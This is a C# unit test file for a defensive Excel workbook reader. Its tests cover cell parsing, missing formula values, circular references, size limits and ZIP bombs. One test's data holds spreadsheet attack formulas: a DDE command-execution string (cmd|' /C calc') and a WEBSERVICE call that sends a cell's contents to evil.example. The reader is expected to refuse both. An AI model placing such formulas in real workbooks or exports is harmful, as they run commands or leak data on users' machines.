using System.IO.Compression;
using Hoshi.Core.Excel;
using Hoshi.Core.Input;

namespace Hoshi.Core.Tests.Excel;

public sealed class SafeWorkbookTests
{
    private static readonly WorkbookLimits Limits = new(MaxRows: 1_000, MaxColumns: 20, MaxCells: 5_000, MaxUncompressedBytes: 4 << 20);

    private static WorkbookContent Read(byte[] bytes, WorkbookLimits? limits = null) =>
        SafeWorkbook.Read(new MemoryStream(bytes), "book.xlsx", limits ?? Limits);

    private static List<string> Problems(byte[] bytes, WorkbookLimits? limits = null) =>
        [.. Assert.Throws<InvalidInputException>(() => Read(bytes, limits)).Errors.Select(e => e.ToString())];

    [Fact]
    public void Cells_read_as_Excel_shows_them()
    {
        var bytes = new RawWorkbook()
            .SharedString("<si><t>取引先</t></si>")
            .SharedString("<si><r><t>株式会社</t></r><r><rPr><b/></rPr><t>サンプル</t></r><rPh sb=\"0\" eb=\"4\"><t>カブシキガイシャ</t></rPh><phoneticPr fontId=\"1\"/></si>")
            .Sheet("Sheet1", """
                <row r="1"><c r="A1" t="s"><v>0</v></c><c r="C1" t="inlineStr"><is><t xml:space="preserve"> 空白 </t></is></c></row>
                <row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2"><v>1234567890123</v></c><c r="C2"><v>0.30000000000000004</v></c><c r="D2" t="b"><v>1</v></c></row>
                <row r="4"><c r="A4"><f>B2*2</f><v>2469135780246</v></c><c r="B4" t="str"><f>A1&amp;"!"</f><v>取引先!</v></c><c r="C4" t="e"><v>#N/A</v></c></row>
                <row><c><v>5</v></c><c t="inlineStr"><is><t>no r</t></is></c></row>
                """)
            .Bytes();
        var sheet = Assert.Single(Read(bytes).Sheets);
        Assert.Equal("Sheet1", sheet.Name);
        Assert.Equal(("取引先", "", " 空白 "), (sheet.Cell(1, 1), sheet.Cell(1, 2), sheet.Cell(1, 3)));
        Assert.Equal(("株式会社サンプル", "1234567890123", "0.3", "TRUE"), (sheet.Cell(2, 1), sheet.Cell(2, 2), sheet.Cell(2, 3), sheet.Cell(2, 4)));
        Assert.Equal(("2469135780246", "取引先!", "#N/A"), (sheet.Cell(4, 1), sheet.Cell(4, 2), sheet.Cell(4, 3)));
        Assert.Equal(("5", "no r"), (sheet.Cell(5, 1), sheet.Cell(5, 2)));
        Assert.Null(sheet.Row(3));
        Assert.Equal(5, sheet.LastRow);
    }

    [Fact]
    public void A_formula_without_a_saved_value_is_refused_with_its_cell()
    {
        var bytes = new RawWorkbook().Grid("取引先", "名前\t数", "A社\t=B3*2", "B社\t3").Bytes();
        Assert.Equal(["book.xlsx [取引先]:2: B: the formula =B3*2 has no saved value (the file was saved without being calculated): open it in Excel, let it calculate, and save it again"], Problems(bytes));
    }

    [Fact]
    public void A_copy_of_a_shared_formula_without_a_saved_value_is_refused_at_the_copy()
    {
        var bytes = new RawWorkbook().Sheet("S", """
            <row r="1"><c r="A1"><v>1</v></c><c r="B1"><f t="shared" ref="B1:B3" si="0">A1*2</f><v>2</v></c></row>
            <row r="2"><c r="A2"><v>2</v></c><c r="B2"><f t="shared" si="0"/><v>4</v></c></row>
            <row r="3"><c r="A3"><v>3</v></c><c r="B3"><f t="shared" si="0"/></c></row>
            """).Bytes();
        Assert.Equal(["book.xlsx [S]:3: B: the formula =A1*2 has no saved value (the file was saved without being calculated): open it in Excel, let it calculate, and save it again"], Problems(bytes));
    }

    [Theory]
    [InlineData("[1]Sheet1!A1", "another workbook")]
    [InlineData("'C:\\Users\\x\\[secret.xlsx]Sheet1'!$A$1", "another workbook")]
    [InlineData("SUM([budget.xlsx]Sheet1!A1:A3)", "another workbook")]
    [InlineData("cmd|' /C calc'!A0", "a DDE link to another program")]
    [InlineData("_xlfn.WEBSERVICE(\"http://evil.example/?\"&A1)", "the function WEBSERVICE")]
    [InlineData("RTD(\"server\",,\"topic\")", "the function RTD")]
    public void A_formula_reaching_outside_the_workbook_is_refused_with_its_cell(string formula, string what)
    {
        var bytes = new RawWorkbook().Sheet("S", $"""<row r="2"><c r="C2" t="str"><f>{System.Security.SecurityElement.Escape(formula)}</f><v>cached</v></c></row>""").Bytes();
        var problem = Assert.Single(Problems(bytes));
        Assert.StartsWith($"book.xlsx [S]:2: C: the formula ={formula[..Math.Min(formula.Length, 12)]}", problem, StringComparison.Ordinal);
        Assert.EndsWith($"reads {what}; Hoshi reads only what is in the workbook: replace the formula by its value", problem, StringComparison.Ordinal);
    }

    [Fact]
    public void A_name_that_reaches_another_workbook_makes_every_formula_using_it_refused()
    {
        var bytes = new RawWorkbook()
            .Name("Rates", "[1]Sheet1!$A$1:$A$9")
            .Sheet("S", """<row r="1"><c r="A1"><f>SUM(Rates)</f><v>0</v></c></row>""").Bytes();
        Assert.EndsWith("reads another workbook (through the name Rates); Hoshi reads only what is in the workbook: replace the formula by its value", Assert.Single(Problems(bytes)), StringComparison.Ordinal);
    }

    [Fact]
    public void Text_that_only_looks_like_a_link_and_table_references_are_read()
    {
        var bytes = new RawWorkbook().Sheet("S", """
            <row r="1"><c r="A1" t="str"><f>"[1] a|b"&amp;"'[x]'!"</f><v>[1] a|b'[x]'!</v></c><c r="B1"><f>SUM(Table1[Amount])+SUM(Table1[[#This Row],[Tax]])</f><v>3</v></c><c r="C1"><f>IF(TRUE,1,{1,"|",3})</f><v>1</v></c><c r="D1"><f>[@Amount]*2+SUM(Sheet1:Sheet3!A1)+#REF!</f><v>1</v></c></row>
            """).Bytes();
        Assert.Equal("[1] a|b'[x]'!", Read(bytes).Sheets[0].Cell(1, 1));
    }

    [Theory]
    [InlineData("""<row r="1"><c r="A1"><f>B1+1</f><v>0</v></c><c r="B1"><f>A1+1</f><v>0</v></c></row>""", "book.xlsx [S]:1: A: the formula is circular (A1 → B1 → A1)")]
    [InlineData("""<row r="5"><c r="A5"><f>SUM(A:A)</f><v>0</v></c></row>""", "book.xlsx [S]:5: A: the formula is circular (A5 → A5)")]
    [InlineData("""<row r="1"><c r="A1"><f>SUM($C$1:C3)</f><v>0</v></c></row><row r="3"><c r="C3"><f>2:2</f><v>0</v></c></row><row r="2"><c r="T2"><f>'S'!A1</f><v>0</v></c></row>""", "book.xlsx [S]:1: A: the formula is circular (A1 → C3 → T2 → A1)")]
    [InlineData("""<row r="1"><c r="B1"><f t="shared" ref="B1:B2" si="7">B2+1</f><v>0</v></c></row><row r="2"><c r="B2"><f t="shared" si="7"/><v>0</v></c></row><row r="3"><c r="B3"><f>B1</f><v>0</v></c></row>""", "book.xlsx [S]:1: B: the formula is circular (B1 → B2 → B3 → B1)")]
    [InlineData("""<row r="1"><c r="A1"><f>Total*2</f><v>0</v></c></row>""", "book.xlsx [S]:1: A: the formula is circular (A1 → A1)")]
    public void A_circular_formula_is_refused_with_the_circle(string sheetData, string expected)
    {
        var bytes = new RawWorkbook().Name("Total", "S!$A$1:$A$3").Sheet("S", sheetData).Bytes();
        Assert.StartsWith(expected, Assert.Single(Problems(bytes)), StringComparison.Ordinal);
    }

    [Fact]
    public void A_circle_across_sheets_names_both()
    {
        var bytes = new RawWorkbook()
            .Sheet("一覧", """<row r="1"><c r="A1"><f>'集計 表'!B2</f><v>0</v></c></row>""")
            .Sheet("集計 表", """<row r="2"><c r="B2"><f>一覧!A1*2</f><v>0</v></c></row>""").Bytes();
        Assert.StartsWith("book.xlsx [一覧]:1: A: the formula is circular (A1 → 集計 表!B2 → A1)", Assert.Single(Problems(bytes)), StringComparison.Ordinal);
    }

    [Fact]
    public void Formulas_that_read_each_other_without_a_circle_are_read()
    {
        var rows = string.Concat(Enumerable.Range(1, 300).Select(r => $"""<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><f>A{r}+B{r + 1}</f><v>0</v></c><c r="C{r}"><f>SUM(B:B)+SUM($A$1:A{r})</f><v>0</v></c></row>"""));
        var sheet = Read(new RawWorkbook().Sheet("S", rows).Bytes()).Sheets[0];
        Assert.Equal("300", sheet.Cell(300, 1));
    }

    [Fact]
    public void A_ZIP_without_a_workbook_or_a_file_that_is_no_ZIP_is_refused_as_such()
    {
        Assert.Equal(["book.xlsx: this is not an Excel workbook (.xlsx) that Hoshi can read: it holds no workbook (a ZIP file, but no Excel workbook in it)"],
            Problems(RawWorkbook.Zip(("readme.txt", "hello"))));
        Assert.Equal(["book.xlsx: this is not an Excel workbook (.xlsx) that Hoshi can read: it holds no workbook (a ZIP file, but no Excel workbook in it)"],
            Problems(RawWorkbook.Zip(("[Content_Types].xml", """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"""), ("_rels/.rels", """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>"""))));
        Assert.Equal(["book.xlsx: this is not an Excel workbook (.xlsx) that Hoshi can read: it is not even a ZIP file"], Problems("名前,法人番号\n"u8.ToArray()));
        Assert.Equal(["book.xlsx: this is not an Excel workbook (.xlsx) that Hoshi can read: it cannot be read"],
            Problems(new RawWorkbook().Sheet("S", "<row r=\"1\"><c r=\"A1\"><v>1</v></c>").Bytes()));
    }

    [Fact]
    public void A_declared_dimension_beyond_the_limits_is_refused_before_any_cell()
    {
        // The dimension says A1:A1048576; the cells would be read only after it.
        var bytes = new RawWorkbook().Sheet("S", """<row r="1"><c r="A1"><v>1</v></c></row>""", dimension: "A1:A1048576").Bytes();
        Assert.Equal(["book.xlsx [S]: the sheet declares cells up to A1048576 (dimension A1:A1048576); Hoshi reads at most 1,000 rows and 20 columns (up to T1000) of this kind of file: delete the rows and columns beyond the data"], Problems(bytes));
    }

    [Fact]
    public void A_cell_beyond_the_limits_is_refused_where_it_is_even_when_the_dimension_lies()
    {
        Assert.Equal(["book.xlsx [S]:1048576: the sheet reaches row 1,048,576; Hoshi reads at most 1,000 rows of this kind of file: delete the rows below the data"],
            Problems(new RawWorkbook().Sheet("S", """<row r="1048576"><c r="A1048576"><v>1</v></c></row>""", dimension: "A1").Bytes()));
        Assert.Equal(["book.xlsx [S]:3: XFD: the sheet reaches column XFD; Hoshi reads at most 20 columns (up to T) of this kind of file: delete the columns beyond the data"],
            Problems(new RawWorkbook().Sheet("S", """<row r="3"><c r="XFD3"><v>1</v></c></row>""").Bytes()));
        // Rows without numbers count on.
        Assert.StartsWith("book.xlsx [S]:1001: the sheet reaches row 1,001",
            Assert.Single(Problems(new RawWorkbook().Sheet("S", string.Concat(Enumerable.Repeat("<row><c><v>1</v></c></row>", 1_001))).Bytes())), StringComparison.Ordinal);
    }

    [Fact]
    public void Too_many_cells_in_the_workbook_are_refused()
    {
        var row = string.Concat(Enumerable.Range(1, 20).Select(c => $"<c><v>{c}</v></c>"));
        var bytes = new RawWorkbook().Sheet("A", string.Concat(Enumerable.Repeat($"<row>{row}</row>", 200))).Sheet("B", string.Concat(Enumerable.Repeat($"<row>{row}</row>", 200))).Bytes();
        Assert.Equal(["book.xlsx [B]:51: A: the workbook holds more than 5,000 cells, more than Hoshi reads of this kind of file"], Problems(bytes));
    }

    [Fact]
    public void A_ZIP_bomb_is_refused_from_the_ZIP_directory()
    {
        var bomb = new RawWorkbook().Sheet("S", "").Entry("xl/media/padding.bin", new byte[3 << 20]).Bytes();
        Assert.StartsWith("book.xlsx: the part xl/media/padding.bin is compressed 1,0", Assert.Single(Problems(bomb)), StringComparison.Ordinal);
        Assert.EndsWith("to 1, more than the 100 to 1 of any real workbook (a ZIP bomb?)", Assert.Single(Problems(bomb)), StringComparison.Ordinal);

        var large = new RawWorkbook().Sheet("S", "").Entry("xl/media/image.png", Random.Shared.GetItems<byte>([1, 2, 3, 4, 5, 6, 7, 8, 9], 5 << 20), CompressionLevel.NoCompression).Bytes();
        Assert.Equal(["book.xlsx: the file unpacks to more than 4 MB, more than Hoshi reads of this kind of workbook"], Problems(large));

        var many = new RawWorkbook().Sheet("S", "");
        for (var i = 0; i < 1_001; i++)
        {
            many.Entry($"xl/media/{i}.bin", [1]);
        }

        Assert.Equal(["book.xlsx: the file holds 1,006 parts; a workbook holds at most 1,000"], Problems(many.Bytes()));
    }

    [Fact]
    public void A_stream_that_cannot_seek_is_read_and_a_seekable_one_left_where_it_was()
    {
        var bytes = new RawWorkbook().Grid("S", "a\tb").Bytes();
        var sheet = SafeWorkbook.Read(new ForwardOnly(bytes), "book.xlsx", Limits).Sheets[0];
        Assert.Equal("b", sheet.Cell(1, 2));

        var stream = new MemoryStream(bytes);
        SafeWorkbook.Check(stream, "book.xlsx", Limits);
        Assert.Equal(0, stream.Position);
        Assert.Equal("b", SafeWorkbook.Read(stream, "book.xlsx", Limits).Sheets[0].Cell(1, 2));
    }

    [Fact]
    public void ClosedXML_is_handed_only_a_workbook_that_passed_the_checks()
    {
        var far = new RawWorkbook().Sheet("S", """<row r="1048576"><c r="A1048576"><v>1</v></c></row>""").Bytes();
        Assert.Contains("reaches row 1,048,576", Assert.Throws<InvalidInputException>(() => Workbooks.Open(new MemoryStream(far), "far.xlsx")).Message, StringComparison.Ordinal);
        var noValue = new RawWorkbook().Grid("S", "=1+1").Bytes();
        Assert.Contains("has no saved value", Assert.Throws<InvalidInputException>(() => Workbooks.Open(new MemoryStream(noValue), "f.xlsx")).Message, StringComparison.Ordinal);

        using var workbook = Workbooks.Open(new ForwardOnly(new RawWorkbook().Grid("一覧", "a\tb").Bytes()), "ok.xlsx");
        Assert.Equal("b", workbook.Worksheet("一覧").Cell(1, 2).GetString());
    }

    /// <summary>An upload's body: read once, front to back.</summary>
    private sealed class ForwardOnly(byte[] bytes) : MemoryStream(bytes)
    {
        public override bool CanSeek => false;
    }
}
